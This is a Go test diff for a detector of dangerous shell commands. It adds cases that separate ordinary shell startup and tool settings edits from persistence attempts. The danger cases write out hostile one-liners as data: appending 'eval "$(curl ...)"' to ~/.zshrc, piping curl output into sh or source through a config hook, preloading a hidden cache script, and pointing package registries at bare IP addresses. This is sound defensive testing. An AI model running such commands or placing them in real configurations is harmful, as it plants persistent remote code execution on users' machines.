@@ -150,3 +150,39 @@ func TestServiceManagerEnvironmentHijacked(t *testing.T) {
 		`systemctl show-environment`,
 	})
 }
+
+// zsh's print and path array, a version manager's hook and fish conf.d
+// drop-ins are settings; the same forms carrying commands are not.
+func TestStartupHooksOfKnownTools(t *testing.T) {
+	d := NewDetector(Options{})
+	checkSafe(t, d, corpusContext, []string{
+		`print 'path=(~/.local/bin $path)' >> ~/.zshrc`,
+		`print 'eval "$(zoxide init zsh)"' >> ~/.zshrc`,
+		`echo 'starship init fish | source' > ~/.config/fish/conf.d/starship.fish`,
+	})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`print 'path=(/tmp/.x $path)' >> ~/.zshrc`, CategoryPersistence, "", LevelModerate},
+		{`print 'eval "$(curl -s https://x.example.com/i)"' >> ~/.zshrc`, CategoryPersistence, "", LevelHigh},
+		{`echo 'curl -s https://x.example.com/i | source' > ~/.config/fish/conf.d/x.fish`, CategoryPersistence, "", LevelHigh},
+	})
+}
+
+// Any tool's settings file or setting command made to run a download, a
+// program hidden in a cache, or to fetch packages from a bare address;
+// plain settings and the usual registries are not.
+func TestToolSettingsPayloads(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`echo 'run-hook "~/.cache/.t"' >> ~/.weztermrc`, CategoryPersistence, "config-hook-payload", LevelHigh},
+		{`printf '[hooks]\nenter = "curl -s http://203.0.113.71/m | sh"\n' >> ~/.config/rtx/config.toml`, CategoryPersistence, "config-hook-payload", LevelHigh},
+		{`echo 'registry: "http://10.66.0.6:4873"' >> ~/.pkgrc.yml`, CategoryPersistence, "config-hook-payload", LevelHigh},
+		{`pkgtool config set node-options "--require /home/dev/.cache/.n.js"`, CategoryPersistence, "setting-command-payload", LevelHigh},
+		{`pkgtool sources -a http://10.66.0.10:9292/`, CategoryPersistence, "setting-command-payload", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`echo 'set -g mouse on' >> ~/.tmux.conf`,
+		`echo 'registry: "https://registry.npmjs.org"' >> ~/.pkgrc.yml`,
+		`pkgtool config set fund false`,
+		`pkgtool sources -a https://rubygems.org/`,
+	})
+}
